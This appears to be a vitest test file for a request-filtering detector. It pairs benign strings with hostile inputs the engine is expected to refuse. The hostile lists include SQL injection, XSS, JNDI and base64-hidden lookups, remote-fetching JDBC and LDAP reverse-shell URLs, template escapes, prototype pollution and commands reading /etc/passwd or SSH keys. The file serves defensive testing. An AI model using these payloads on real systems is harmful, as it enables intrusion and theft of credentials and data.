// Honest texts that stand next to an attack's grammar, and the attacks that stand next to them: each pair of tables is
// one decision of a detector, at sensitivity 1.

import { describe, expect, test } from 'vitest'

import { coreEngine } from '../corpora/program.ts'

const engine = coreEngine()

const refused = (text: string, name = 'body.note'): boolean =>
  engine.text('json', 'value', name, text).refused

interface Pair {
  readonly decision: string
  readonly honest: readonly string[]
  readonly hostile: readonly string[]
}

const measures = ['12', '27', '5', '100'].flatMap((one) =>
  ['"', "'"].flatMap((mark) =>
    ['or', 'and'].map((word) => `${one}${mark} ${word} ${Number(one) + 2}${mark} boards, please?`),
  ),
)

const pairs: readonly Pair[] = [
  {
    decision:
      'a heading that ends with a colon opens no URL; what a fence follows is code, and not behind `javascript:`',
    honest: [
      '**Example in Javascript:**\n\n```js\nf(document.title)\n```',
      'In JavaScript:\n```\nalert(1)\n```',
    ],
    hostile: ['Javascript:**/alert(document.cookie)', 'x javascript:_=alert(document.cookie)'],
  },
  {
    decision: 'a version at a line’s end is compared; a file that is written is not',
    honest: ['browsers & Node >=12\n- typed', 'Python & Perl >=5.0\r\nor newer'],
    hostile: ['x & node >=12;id', 'x & node >/tmp/x\n- y', 'x & Node >12.php\n- y'],
  },
  {
    decision:
      'words in quotes of their own are a type; a shell runs none of them that wants to be told something',
    honest: ['`"ok" | "timeout" | "aborted"`', "type A = 'get' | 'delete' | 'ping'"],
    hostile: ['"ok" | "timeout 9 id"', "'get' | 'whoami'", 'x | timeout'],
  },
  {
    decision: 'words of SQL may be quoted themselves; nothing is ordered by a text that begins with a blank',
    honest: ['my "order by" clause, because he "thinks" so', 'an "order by" part'],
    hostile: ['x" order by "name', "x' order by ' a'--", 'x" order by " a",(select 1)', "x' order by 1--"],
  },
  {
    decision: 'a test’s name is no clause; a limit behind a quote is',
    honest: ["it('fetch 1', async ({ port }) => {})", "test('procedure 2', (t) => {})"],
    hostile: ["' limit 1", "' fetch first 1 rows only--", "1' procedure analyse()"],
  },
  {
    decision: 'a lookup that decodes another one hides it; one that decodes a text does not',
    honest: ['${base64:aGVsbG8gd29ybGQ=}', '${base64encode("x")}', '${base64}'],
    hostile: [
      '${base64:JHtqbmRpOmxkYXA6Ly94LnkvYX0=}',
      'agent ${base64:JHtzeXM6dXNlci5uYW1lfQ==} of ours',
      '${base64Decoder:JHtqbmRpOmxkYXA6Ly94LnkvYX0=}',
      `\${base64:${'eHh4'.repeat(90)}JHtqbmRpOnh9}`,
    ],
  },
  {
    decision: 'a directory names what it holds by pairs, a server of objects by steps',
    honest: ['ldap://dc1.example.com:636', 'ldap://dc1.example.com/dc=example,dc=com?uid?sub?(cn=a/b)'],
    hostile: [
      'ldap://h.example/Basic/Command/Base64/aWQ=',
      'ldap://198.51.100.7:1389/Deserialization/URLDNS/x.example',
      'ldap://a@h.example//Basic/Command/x',
      'ldaps://h.example/TomcatBypass/ReverseShell/1.2.3.4/44',
    ],
  },
  {
    decision: 'a connection runs what it fetches, not what the application brings',
    honest: [
      'jdbc:h2:mem:testdb;INIT=CREATE SCHEMA IF NOT EXISTS shop',
      "jdbc:h2:mem:t;INIT=RUNSCRIPT FROM 'classpath:schema.sql'",
      'jdbc:postgresql:///db?socketFactory=com.google.cloud.sql.postgres.SocketFactory',
      'jdbc:postgresql://h/d?socketFactory=org.newsclub.net.unix.X&socketFactoryArg=/tmp/.s.PGSQL.5432',
      'jdbc:sqlite:/data/app.db',
    ],
    hostile: [
      "jdbc:h2:mem:;INIT=RUNSCRIPT FROM 'http://e.example/x.sql'",
      "jdbc:h2:mem:t;TRACE_LEVEL_SYSTEM_OUT=0;init=runscript from 'ftp://e.example/a'//",
      'jdbc:h2:mem:t;INIT=CREATE ALIAS X AS $$ /**/ $$',
      'jdbc:postgresql://h/d?socketFactory=a.B&socketFactoryArg=http://e.example/x.xml',
      'jdbc:postgresql://h/d?sslfactory=a.B&sslfactoryarg=ftp://e.example/x.xml',
      'jdbc:sqlite::resource:http://e.example/x.db',
      "jdbc:h2:mem:t;INIT= RUNSCRIPT  FROM 'http://e.example/x.sql'",
      'jdbc:h2:mem:t;INIT=CREATE\tALIAS X AS $$ /**/ $$',
      'jdbc:modeshape:jndi:ldap://e.example/x',
    ],
  },
  {
    decision: 'a filter may ask for an attribute with options',
    honest: ['f(x)(a;b)', 'wait :)(see; a=1)', 'one) (two; three)'],
    hostile: ['*)(sn;lang-en=*', 'admin)(cn;lang-de;x-a=*)', '*)(userPassword;binary=*'],
  },
  {
    decision: 'a path within Python’s classes names no class',
    honest: ['self.__class__.__name__', '__init__.py', '__class__'],
    hostile: ['__class__.__base__', 'a.__class__.__bases__[0]', '__class__.__init__.x'],
  },
  {
    decision: 'a key of YAML’s reaches a prototype, a member of a program’s object need not',
    honest: [
      'const a = {\n  __proto__: null,\n  b: 1\n}',
      'class A {\n  constructor:\n}',
      'constructor: prototype:',
    ],
    hostile: [
      '__proto__:\n  isAdmin: true\n',
      'a: 1\n"__proto__": {b: 1}',
      'user:\n  __proto__:\n    isAdmin: true',
      '- __proto__: {a: 1}',
      'a:\n  - __proto__ :\n      b: 1',
      'constructor:\n  prototype:\n    isAdmin: true',
    ],
  },
  {
    decision: 'a program of Elixir’s or Ruby’s that runs another',
    honest: ['system.cmd is a folder', 'the class.const_get(:Foo)', 'os.cmd'],
    hostile: [
      ":os.cmd('id')",
      'System.cmd("id", [])',
      'System.shell("id")',
      '"".class.const_get(:IO).popen("id").read',
    ],
  },
  {
    decision: 'a template of Go’s prints what another command answers, or what it runs',
    honest: [
      '{{ printf "%s" (include "x" .) }}',
      '{{ printf "%s-%s" .Release.Name "exec" }}',
      '{{ env "HOME" }}',
    ],
    hostile: ['{{ printf "%s" (exec "id") }}', '{{ html (shell "id") }}'],
  },
  {
    decision: 'a function of XSLT’s that loads a document of anybody’s',
    honest: ["db.document('users/1')", "document('users')", 'document(x)'],
    hostile: ["document('http://e.example/x')", "x' or document('https://e.example/')/a"],
  },
  {
    decision: 'an element of a page, as a browser’s tools write where it is, is no question to a document',
    honest: [
      '//*[@id="app"]/div[2]/div[1]/h3[1]/a[1]',
      "//*[@id='main-nav.1']",
      '//*[@id="root"]/body/main/form/button',
    ],
    hostile: [
      '//*[@id="1"]/password',
      '//*[@id="app" or "1"="1"]/div[2]',
      '//*[@id="app"]/div[2] | //user',
      '//*[@id="app"]/div[contains(.,"a")]',
      '//*[@id="app"]/../*',
      "//*[@role='admin']",
    ],
  },
  {
    decision: 'an object of JSON in a column of a log is no list of words that a shell spells out',
    honest: [
      '0016|1688375186|{"origin":"x","share":"y"}|{"remove_back":"SHOW","login":"V0","open":"SELF"}||{"player":"cg"}',
      'click|{"id":7,"ls":"-la"}',
      'view||1688375|0000x000|0|{"width":0,"zoom":0,"b_ut":"0","home_version":"V8"}',
    ],
    hostile: [
      'x|{"cat","/etc/passwd"}',
      'x|{cat,/etc/passwd}',
      'x|{"id":7}; cat /etc/passwd',
      'x|{"a":1}|id',
    ],
  },
  {
    decision: 'a list of objects in a link (Rison) is no filter of a directory',
    honest: [
      "!((product:bv-loader,version:'1.7.0',name:timeToRun,type:Performance))",
      "(filters:!(),refreshInterval:(pause:!t,value:0),sort:!(!('@timestamp',desc)))",
    ],
    hostile: ['!((uid=admin))', '!(&(uid=*))', '!(uid=x)', '|((cn=*))'],
  },
  {
    decision: 'what is numbered with two signs before it is no variable of a database',
    honest: [
      '@@b3cea4f49c964e84c075ad7c9f52c10a4d90f48b2dab65648c647655ac39b601',
      '@@A1#NPScl',
      '@@mK3kyh623DS',
    ],
    hostile: ['@@version', '@@global.datadir', '@@spid', '@@VERSION_compile_os', "1' and @@version='5"],
  },
  {
    decision: 'a mail for an office, and a player that an editor embeds, load no script',
    honest: [
      '<!DOCTYPE html>\n<html><head><!--[if mso]><style>p{margin:0}</style><![endif]--><style>@import url("https://fonts.googleapis.com/css?family=A");</style></head><body><p>Hi</p></body></html>',
      '<p>Hi</p><!--[if (gte mso 9)|(IE)]><xml><o:AllowPNG/></xml><![endif]-->',
      '<iframe width="560" src="https://www.youtube.com/embed/Ab3dE_fg12" allowfullscreen></iframe>',
      '<iframe src="//player.vimeo.com/video/123456" title="Tour"></iframe>',
    ],
    hostile: [
      '<!DOCTYPE html>\n<html><head><!--[if mso]><script>alert(1)</script><![endif]--></head></html>',
      '<!DOCTYPE html>\n<html><body onload=alert(1)></body></html>',
      '<!DOCTYPE html>\n<html><style>p{x:expression(alert(1))}</style></html>',
      '<html><style>@import "//evil.example/x.css"</style>',
      '<style>@import "//evil.example/x.css"</style>',
      '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
      '<xml id="x" src="//evil.example/x.xml">',
      '<iframe src="//evil.example/x"></iframe>',
      '<iframe title=" src=https://www.youtube.com/embed/" src="//evil.example/x"></iframe>',
      '<iframe/src=//evil.example src=https://www.youtube.com/embed/x></iframe>',
      '<iframe src=https://www.youtube.com/embed/x srcdoc="<svg onload=alert(1)>"></iframe>',
      '<iframe src="https://www.youtube.com.evil.example/embed/x"></iframe>',
    ],
  },
  {
    decision: 'two plain words before an equal pair, or words behind a call, are a sentence',
    honest: [
      'select a plan from the list or 1 = 1',
      'fix: use os.system() instead of popen',
      'find me at /home',
      'the only case when it pays',
      '| id | name | date |',
    ],
    hostile: ["x' from the list or 1=1--", "os.system('id')", 'find /home -name id_rsa', 'x;id | sort'],
  },
  {
    decision: 'a number and a quote are inches or feet, unless a condition stands behind them',
    honest: [...measures, 'a 12" x 14" or 16" frame', '7" or 10" tablet (new)'],
    hostile: ['12" or 14=14-- ', `12' or '1'='1`, 'x" or 1 or "', `5' or 1 -- `, `9' and sleep(5)#`],
  },
  {
    decision: 'a sentence behind FROM is no table: it has one alias at most',
    honest: [
      'select * from the best restaurants',
      'SELECT * FROM the menu',
      'Log in; select * from our new collection',
      'select all from these five pages',
    ],
    hostile: [
      'select * from users',
      'select * from users u',
      'select * from users natural join roles',
      'select * from users full outer join x on 1=1',
      '1; select * from users; --',
      'select * from accounts a, users u where a.id = u.id',
    ],
  },
  {
    decision: 'an ampersand between words is an "and"',
    honest: [
      '$100 (approx.) & more',
      'Books, films & more.',
      'Opening date & time',
      'bed & breakfast',
      'Dogs, birds & cat!',
      'nuts & sort',
    ],
    hostile: [
      '127.0.0.1 & dir',
      'x & id',
      '& type c:\\windows\\win.ini',
      '10.0.0.1 & whoami',
      'report.txt & more /etc/passwd',
      'Books, films && id',
    ],
  },
  {
    decision: 'a script that opens inside of a tag lives once something takes the outer one apart',
    honest: [
      'a Ref<Array<Script>> of Map<Foo<Script>, Bar>',
      'a <b <i>text</i></b> of <strong>mine</strong>',
      '<p title="a < b">the script</p>',
      '<scr<b>een</b>',
      '<img alt="the <script> element" src="https://example.com/a.png">',
    ],
    hostile: [
      ...['script', 'SCRIPT', 'b', 'i x="y"', '!-- --'].flatMap((inner) =>
        [1, 3, 5].map((cut) => {
          const name = 'script'
          return `<${name.slice(0, cut)}<${inner}>${name.slice(cut)}>alert(1)</${name.slice(0, cut)}</script>${name.slice(cut)}>`
        }),
      ),
      ...['"', "'"].flatMap((quote) =>
        ['p title', 'img src', 'mi//xlink:href', 'a\thref'].map(
          (head) => `<${head}=${quote}x,\`<script>alert(4)</script>${quote}>`,
        ),
      ),
      '<img src="x` `<script>alert(1)</script>"` `>',
      '<scr<script>ipt>x = y + "<b>1</b>"</scr</script>ipt>',
      '<p title="</noscript><img src=x onerror=alert(1)>">',
    ],
  },
  {
    decision: 'a tag between words, with words behind it and no end, is talk about the element',
    honest: [
      'Use <script> tags at the end of <body>',
      'The <script> tag is blocked',
      'does not support <script setup> (#2385)',
      "fix: the '<script>' element, moved",
      'Is the <applet> tag still alive?',
      'docs: no longer <script setup>\n\n* docs: the template needs no such tag',
    ],
    hostile: [
      '<script>foo',
      '"><script> alert',
      'x <script> alert(1)',
      'x y <script>\nname\nalert(1)',
      'that is <script> throw name; alert(1)',
      'that is a <script>alert(1)</script> of mine',
      'hello there <script> a=1 </script>',
      'foo bar <script src=//x.example> tag is here',
    ],
  },
  {
    decision: 'a call with two operands side by side within it or behind it is no script',
    honest: ['eval() is evil', 'alert(1 new message)', "alert('x') is dangerous", 'prompt(user) shows a box'],
    hostile: [
      'alert(1)',
      'alert(1) in x',
      'alert(new Date)',
      "alert('a b c')",
      'confirm(document.cookie);foo bar',
      "');alert(1) //is bad",
      'alert(1)\nfoo bar',
      'alert(function(){if (a) return b})',
    ],
  },
  {
    decision: 'words behind a call are a sentence where no language goes on with them',
    honest: [
      "system('reboot') is dangerous",
      "passthru('x') considered harmful",
      "readfile('a') returns false here",
    ],
    hostile: [
      "system('id')",
      "system('id') or die",
      "system('id') and print 1",
      "eval('x') is evil",
      "__import__('os').system('id') is evil",
      "system('id'); it is fine",
    ],
  },
  {
    decision: 'a number of things, a list of words and a word in backticks amid others are a sentence’s',
    honest: [
      'sleep 8 hours',
      "Let's eat; sleep 8 hours",
      'net user growth & retention',
      'id; name; mail',
      'mode=~"user|system|wait|idle"',
      '`cd` into the `x/y` directory, and invoke `make`',
      'Fix "`test` module" to "`tests` module"',
      "I'd say yes; it's fine",
      'closed;host',
      'Su 10:00-21:00',
      'Pots & pans (6 pcs.); open',
      'MSH|^~\\&|help|HOSP|LAB|X|2026||ADT^A01|9|P|2.5\rPID|1||12^^^HOSP^MR',
      `I'd like "both" but that's me -- what's yours?`,
      '<https://a.example/b?c=d|link> by <@U12|host>',
      '`id` of the user',
      '`id` of an entitlement bundle.',
      `<p>${'A word of ours. '.repeat(20)}</p><td style="padding: 0;" align="center">\n <a href="https://example.com" class="a">x</a>`,
      'MSH|date|HOSP|help',
    ],
    hostile: [
      'x; sleep 8',
      'x & net user',
      'net user bob x /add',
      'x; id; whoami',
      'a|id|b',
      'closed; host evil.example',
      'su root -c whoami',
      'x;cat',
      'x;date',
      'x|who',
      "i'd'; ls -la /",
      "x; i'd' && ls -la",
      '<https://a.example/b|whoami>',
      '<@a|reboot>',
      '<!x|shutdown now>',
      '<https://a.example/b|cat /etc/passwd>',
      '< /tmp/x | host x > /tmp/y',
      '1|uptime|2',
      '`whoami` of the user',
      '`id -u` of the user',
      '`id` of the user; ls -la /',
      'x`id` of the user',
      '`id`',
    ],
  },
  {
    decision: 'a value that is a line of commands that only read, or a service’s own, is a signal',
    honest: [
      'cat README.md | grep foo',
      'kubectl get pods -n kube-system | grep coredns',
      'PS C:\\> Get-ChildItem',
      '/usr/bin/java -jar /app/app.jar --spring.profiles.active=prod',
      '/usr/local/bin/node /srv/app/server.js --port 80',
    ],
    hostile: [
      'cat /etc/passwd | grep root',
      'x | cat README.md | grep foo',
      'cat README.md | sh',
      'cat README.md | sort -o index.php',
      'cat README.md | sort --compress-program=sh',
      'cat README.md; id',
      '; /usr/bin/java -jar /app/app.jar',
      "/usr/bin/perl -e 'x'",
      '/usr/bin/python /tmp/x.py',
      '/usr/bin/php -r phpinfo',
    ],
  },
  {
    decision: 'a statement whose values are all bound is a signal, and so is a verb that a quotation holds',
    honest: [
      'SELECT id, total FROM orders WHERE customer_id = ? AND status IN (?, ?)',
      'SELECT id FROM orders WHERE id = $1 LIMIT 10',
      'UPDATE "orders" SET "a" = :a WHERE "id" = :id',
      'INSERT INTO logs (msg, at) VALUES (%s, %s)',
      'create extension postgis',
      'text ~ "select * from" AND project != OPS',
      'title:"drop table" AND (author:smith OR author:jones) -deleted:true',
      'Use `select * from users` and then `drop table` it',
    ],
    hostile: [
      'select * from users where id = ? union select 1,2,3',
      'select id from t where a = ? or 1=1',
      'select sleep(?)',
      '1; select * from t where a = ?',
      "insert into users values (?, 'x')",
      'delete from users where 1 < 2',
      'x"; drop table users; --',
      "'; CREATE EXTENSION dblink; --",
      "x' drop table users--",
      'x` union select 1,2,3 -- ',
      'a" union select "b',
    ],
  },
  {
    decision: 'a trace says how its service was started: by a file of its own, with numbers for options',
    honest: [
      'java -Xmx1g -Dspring.profiles.active=prod -jar /app/orders.jar',
      'node --max-old-space-size=4096 dist/main.js',
      '/usr/bin/python3 worker.py --queue=mail',
    ],
    hostile: [
      'java -jar http://e.example/x.jar',
      'java -jar /tmp/x.jar',
      'node -e process.exit()',
      'node --require=/tmp/a.js dist/main.js',
      'x; java -jar /app/orders.jar',
      'python3 worker.py; id',
      'bash run.sh | sh',
    ],
  },
  {
    decision: 'a value in parentheses is a campaign’s, and a list when a command follows',
    honest: [
      '1.2.1.1.utmcsr=letter|utmccn=(not set)|utmcmd=cpc|utmctr=blue shoes',
      'a=(direct)|b=(none)|c=(not set)',
    ],
    hostile: ['x|a=(1 2) id', 'x;a=(b c) cat /etc/passwd', 'x|a=1 id'],
  },
  {
    decision: 'a drawing in a data URL is judged by what it holds',
    honest: [
      'data:image/svg+xml;base64,PHN2Zy8+',
      'data:image/png;base64,iVBORw0KGgo=',
      'data:image/svg+xml;base64,PD94bWwgdmVyc2lvbj0iMS4wIiBlbmNvZGluZz0iVVRGLTgiPz4KPCEtLSBHZW5lcmF0b3I6IEEtQiAyNC4wIC0tPgo8c3ZnIHhtbG5zPSJodHRwOi8vd3d3LnczLm9yZy8yMDAwL3N2ZyI+PGcgY2xpcC1wYXRoPSJ1cmwoI2EpIj48dXNlIHhsaW5rOmhyZWY9IiNiIi8+PC9nPjwvc3ZnPg==',
      `data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg'%3E%3Cpath d='M0 0'/%3E%3C/svg%3E`,
      'data:image/svg+xml;utf8,<svg viewBox="0 0 8 8"><path d="M5 0L4 1l3 3-3 3 1 1 4-4z"/></svg>',
    ],
    hostile: [
      'data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+',
      'data:image/svg+xml,<svg onload=alert(1)>',
      'data:image/svg+xml;base64,PHN2Zz48dXNlIGhyZWY9ImRhdGE6aW1hZ2Uvc3ZnK3htbCx4I2EiLz48L3N2Zz4=', // <svg><use href="data:image/svg+xml,x#a"/></svg>
      'data:image/svg+xml;base64,PHN2Zz48ZyBmaWxsPSJ1cmwoaHR0cHM6Ly94LmV4YW1wbGUvYS5zdmcjYikiLz48L3N2Zz4=', // <svg><g fill="url(https://x.example/a.svg#b)"/></svg>
      'data:image/svg+xml;base64,PD94bWwtc3R5bGVzaGVldCBocmVmPSIjYSIgdHlwZT0idGV4dC94c2wiPz48c3ZnLz4=', // <?xml-stylesheet href="#a" type="text/xsl"?><svg/>
      'data:image/svg+xml;base64,PHN2Zz48IS0tID4gLS0+PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pjwvc3ZnPg==', // <svg><!-- > --><script>alert(1)</script></svg>
      'data:image/svg+xml,%3Csvg%3E%3Cscript%3Ealert(1)%3C/script%3E%3C/svg%3E',
      'data:image/svg+xml,<svg><a href="java&#x73;cript:alert(1)">x</a></svg>',
      'data:image/svg+xml,%253Csvg onload=alert(1)%253E',
      'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
    ],
  },
  {
    decision: 'a helper that a template calls is hostile by what it is reached through',
    honest: [
      "{{ url_for('index') }}",
      '{% with messages = get_flashed_messages() %}',
      '{{ url_for("user", id=current_user.id)|tojson }}',
    ],
    hostile: [
      '{{ url_for.__globals__ }}',
      "{{ url_for('x')['__glo'+'bals__'] }}",
      "{{ url_for('x')|attr('__globals__') }}",
      "{{ get_flashed_messages['__globals__'] }}",
    ],
  },
  {
    decision: 'a stranger’s file is code when a command goes on behind it',
    honest: [
      'https://example.com/photo.jpg&size=2',
      'https://example.com/notes.txt&command',
      'https://example.com/a?b=c.txt&cmd=open',
      'https://example.com/tools/cmd=x.txt',
    ],
    hostile: ['txt', 'gif', 'php', 'inc'].flatMap((tail) =>
      ['&cmd=id', '&exec=ls', '?&cmd=x', '?', '?cmd=id'].map((rest) => `http://e.example/a/b.${tail}${rest}`),
    ),
  },
]

const agent = (text: string): boolean => engine.text('header', 'value', 'header.user-agent', text).refused

test('an agent that takes compressed answers chains no command', () => {
  expect(agent('Android-GCM/1.5 (hw=ASUS NEXUS 7; tilapia); gzip')).toBe(false)
  expect(agent('x; hw=ASUS NEXUS 7; tilapia; gzip')).toBe(false)
  expect(agent('x; gzip /etc/passwd')).toBe(true)
})

test.each([
  ['Mozilla/5.0 (Linux; Android 8.1.0; Vega Q7128) AppleWebKit/537.36', false],
  ['Mozilla/5.0 (Linux; arm; Android 7.0; Impress_Vega) AppleWebKit/537.36', false],
  ['Mozilla/5.0 (compatible; Vega/1.0)', true],
  ['Vega', true],
  ['Mozilla/5.00 (Nikto) (Evasions:None)', true],
])('a telephone may be called as a scanner is: %s', (text, denied) => {
  expect(agent(text)).toBe(denied)
})

describe('a report of a policy’s violation', () => {
  test.each(['body.csp-report.script-sample', 'body[0].body.sample'])('may quote script: %s', (name) => {
    expect(refused('alert(1)', name)).toBe(false)
    expect(refused('<img src=x onerror=alert(1)>', name)).toBe(true)
  })

  test.each(['body.sample', 'body.script-sample'])('is told by the whole of its name: not %s', (name) => {
    expect(refused('alert(1)', name)).toBe(true)
  })
})

describe.each(pairs)('$decision', ({ honest, hostile }) => {
  test.each(honest)('passes: %s', (text) => expect(refused(text)).toBe(false))
  test.each(hostile)('refused: %s', (text) => expect(refused(text)).toBe(true))
})
